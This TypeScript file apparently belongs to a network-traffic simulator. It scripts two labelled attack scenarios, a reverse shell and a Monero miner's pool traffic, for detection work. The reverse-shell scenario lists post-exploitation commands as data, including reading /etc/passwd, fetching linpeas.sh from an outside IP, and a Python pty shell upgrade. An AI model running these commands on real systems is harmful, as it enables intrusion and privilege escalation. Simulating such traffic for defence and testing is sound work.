import { TcpConversation } from '../conversation/tcp-conversation.ts'
import { clientSays, converse, serverSays } from '../conversation/text-dialogue.ts'
import type { Scenario } from './scenario.ts'

export const reverseShell: Scenario = {
  name: 'reverse_shell',
  description:
    'A server connects out and hands a shell to the program that listens there, in the clear.',
  kind: 'attack',
  technique: 'T1059.004',
  durationSeconds: 180,
  *play(stage) {
    const { random, office, network } = stage
    const victim = random.pick([office.machines.webServer, office.machines.ftpServer])
    const master = office.internet.stranger('shell-master')
    const port = random.pick([4444, 1337, 9001, 443])
    master.openPorts.add(port)
    const name = victim.name.split('.')[0]
    const prompt = `www-data@${name}:/var/www/html$ `
    const details = { peer: master.address, port }
    const start = { kind: 'reverse_shell', attacker: victim, victims: [master], details }
    const commands = random.sample(shellCommands, random.integer(4, shellCommands.length))
    const run = function* () {
      const conversation = new TcpConversation(network, { client: victim, server: master, port })
      if (!(yield* conversation.open())) return
      const greeting =
        'bash: cannot set terminal process group (612): Inappropriate ioctl for device'
      yield* converse(conversation, [
        clientSays(`${greeting}\nbash: no job control in this shell\n${prompt}`),
      ])
      for (const [command, output] of commands) {
        yield* converse(conversation, [
          serverSays(command, random.between(1500, 7000)),
          clientSays(`${output}\n${prompt}`, 6),
        ])
      }
      yield* conversation.close('server')
    }
    yield* stage.attack(start, run())
  },
}

const shellCommands: readonly (readonly [command: string, output: string])[] = [
  ['id', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)'],
  ['uname -a', 'Linux web 6.1.0-41-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.158-1 x86_64 GNU/Linux'],
  [
    'cat /etc/passwd',
    'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  ],
  ['sudo -l', 'sudo: a terminal is required to read the password'],
  [
    'ls -la',
    'total 12\ndrwxr-xr-x 3 www-data www-data 4096 Jan 12 08:00 .\n-rw-r--r-- 1 root root 612 index.html',
  ],
  [
    'wget http://198.51.100.9/linpeas.sh',
    'linpeas.sh          100%[=====>] 839.9K  --.-KB/s    in 0.1s',
  ],
  ['python3 -c \'import pty; pty.spawn("/bin/bash")\'', ''],
]

export const cryptoMiner: Scenario = {
  name: 'crypto_miner',
  description: 'A miner talks to its pool in the clear (Stratum): login, jobs, shares.',
  kind: 'attack',
  technique: 'T1496',
  durationSeconds: 300,
  *play(stage) {
    const { random, office, network } = stage
    const client = random.pick([office.machines.webServer, random.pick(office.workstations).host])
    const pool = office.internet.stranger('mining-pool')
    const port = random.pick([3333, 4444, 5555, 14444])
    pool.openPorts.add(port)
    const details = { peer: pool.address, port }
    const start = { kind: 'crypto_mining', attacker: client, victims: [pool], details }
    const wallet = `4${random.text(94, '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')}`
    const hex = (length: number) => random.bytes(length).toString('hex')
    const job = () =>
      `{"blob":"${hex(76)}","job_id":"${hex(8)}","target":"b88d0600","height":3312456}`
    const run = function* () {
      const conversation = new TcpConversation(network, { client, server: pool, port })
      if (!(yield* conversation.open())) return
      const agent = 'XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0'
      yield* converse(conversation, [
        clientSays(
          `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${wallet}","pass":"x","agent":"${agent}","algo":["rx/0"]}}`,
        ),
        serverSays(
          `{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"${hex(8)}","job":${job()},"status":"OK"}}`,
        ),
      ])
      for (let share = 2; stage.secondsLeft > 25; share++) {
        const isNewJob = random.chance(0.3)
        yield random.exponential(9e6)
        if (isNewJob) {
          yield* converse(conversation, [
            serverSays(`{"jsonrpc":"2.0","method":"job","params":${job()}}`),
          ])
        }
        yield* converse(conversation, [
          clientSays(
            `{"id":${share},"jsonrpc":"2.0","method":"submit","params":{"id":"${hex(8)}","job_id":"${hex(8)}","nonce":"${hex(4)}","result":"${hex(32)}"}}`,
          ),
          serverSays(`{"id":${share},"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}`, 4),
        ])
      }
      yield* conversation.close('client')
    }
    yield* stage.attack(start, run())
  },
}
